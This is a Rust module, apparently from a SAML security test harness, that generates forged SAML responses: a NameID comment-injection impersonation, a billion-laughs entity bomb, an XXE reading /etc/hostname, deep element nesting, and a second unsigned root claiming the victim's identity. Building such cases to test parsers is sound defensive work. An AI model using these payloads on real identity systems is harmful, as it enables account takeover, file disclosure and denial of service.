//! Text that two readers read in two ways, or that costs the reader more than the writer.

use std::iter::repeat_n;

use super::Forger;
use crate::{IdpError, Signed};

/// The forger has an account whose name begins with the victim's.
pub(super) fn comment_in_name_id(forger: &Forger<'_>) -> Result<String, IdpError> {
    const SUFFIX: &str = ".evil.example";
    let mut subject = forger.subject.clone();
    subject.name_id = format!("{}{SUFFIX}", forger.victim);
    let xml = forger.provider.respond(&subject, &forger.terms.clone().signed(Signed::Assertion))?;
    Ok(xml.replacen(&format!("{SUFFIX}</saml:NameID>"), &format!("<!---->{SUFFIX}</saml:NameID>"), 1))
}

pub(super) fn billion_laughs(forger: &Forger<'_>) -> Result<String, IdpError> {
    let entity = |name: char, of: char| format!("<!ENTITY {name} \"{}\">", format!("&{of};").repeat(10));
    let entities: String = ('b'..='j').zip('a'..='i').map(|(name, of)| entity(name, of)).collect();
    Ok(format!("<!DOCTYPE r [<!ENTITY a \"ha\">{entities}]>{}", forger.genuine(Signed::Assertion)?))
}

pub(super) fn external_entity(forger: &Forger<'_>) -> Result<String, IdpError> {
    let xml = forger.genuine(Signed::Assertion)?;
    Ok(format!("<!DOCTYPE r [<!ENTITY a SYSTEM \"file:///etc/hostname\">]>{xml}"))
}

pub(super) fn deep_nesting(forger: &Forger<'_>) -> Result<String, IdpError> {
    const DEPTH: usize = 5_000;
    let (open, close): (String, String) = (repeat_n("<a>", DEPTH).collect(), repeat_n("</a>", DEPTH).collect());
    let inside = format!("<samlp:Extensions>{open}{close}</samlp:Extensions>");
    Ok(super::behind_issuer(&forger.genuine(Signed::Assertion)?, &inside))
}

pub(super) fn second_root(forger: &Forger<'_>) -> Result<String, IdpError> {
    let xml = forger.genuine(Signed::Assertion)?;
    let evil = forger.about_victim(&forger.genuine(Signed::Nothing)?);
    Ok(format!("{xml}{evil}"))
}
